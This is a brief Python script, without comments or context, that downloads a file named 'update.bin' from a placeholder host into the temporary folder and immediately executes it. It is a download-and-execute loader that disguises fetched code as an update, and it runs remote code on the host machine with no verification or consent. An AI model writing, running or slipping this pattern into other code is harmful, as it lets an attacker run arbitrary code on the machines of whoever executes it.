import os
import subprocess
import requests

place = os.path.join(os.environ.get("TEMP", "/tmp"), "update.bin")
with open(place, "wb") as file:
    file.write(requests.get("https://collect.example.invalid/update").content)
subprocess.Popen([place])
